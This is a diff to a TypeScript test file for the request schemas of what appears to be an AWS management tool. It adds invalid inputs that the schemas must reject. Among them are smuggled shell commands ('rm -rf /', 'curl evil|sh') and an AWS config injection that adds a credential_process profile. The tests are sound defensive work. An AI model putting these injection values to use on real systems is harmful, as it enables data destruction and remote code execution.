@@ -55,7 +55,7 @@ const valid: { [C in RequestChannel]: RequestArgs<C> } = {
   'endpoint.wait': { requestId: 'eice-2', endpointId: 'eice-0123456789abcdef0', hostId: 'h1' },
   'endpoint.create': { requestId: 'eice-1', subnetId: 'subnet-0123456789abcdef0', securityGroupIds: ['sg-0123456789abcdef0'], hostId: 'h1' },
   'forward.close': { forwardId: 'f1' },
-  'policy.generate': { hostIds: ['h1', 'h2'], subnetId: 'subnet-0123456789abcdef0', securityGroupIds: ['sg-0123456789abcdef0'] },
+  'policy.generate': { hostIds: ['h1', 'h2'], subnetId: 'subnet-0123456789abcdef0', securityGroupIds: ['sg-0123456789abcdef0'], features: ['inventory', 'audit'] },
   'audit.trail': { requestId: 'trail-1', profile: 'prod', region: 'eu-west-1', startTime: Date.now() - 3600_000 },
   'audit.alarmSetup': { profile: 'prod', region: 'eu-west-1', topicArn: 'arn:aws:sns:eu-west-1:123456789012:security-alerts', threshold: 3 },
   'audit.local': { limit: 100 },
@@ -121,6 +121,10 @@ describe('the contract schemas', () => {
       ['prompt.answer', { promptId: 'p1', value: 'x'.repeat(5000) }],
       ['policy.generate', {}],
       ['policy.generate', { hostIds: ['h1'], subnetId: 'subnet-x; rm -rf /' }],
+      ['policy.generate', { hostIds: ['h1'], features: ['connect'] }],
+      ['policy.generate', { hostIds: ['h1'], features: ['iam:*'] }],
+      // The URL parser would drop the newline; the AWS config would not.
+      ['aws.sso.createProfile', { ...valid['aws.sso.createProfile'], startUrl: 'https://x.awsapps.com/start\n[profile pwn]\ncredential_process = id' }],
       ['audit.trail', { requestId: 't', profile: 'p', region: 'eu-west-1', startTime: 2000, endTime: 1000 }],
       // Both reach a shell command line: nothing but a bucket name, nothing but a topic ARN.
       ['audit.alarmSetup', { profile: 'p', region: 'eu-west-1', trailBucket: "logs'; curl evil|sh; '" }],
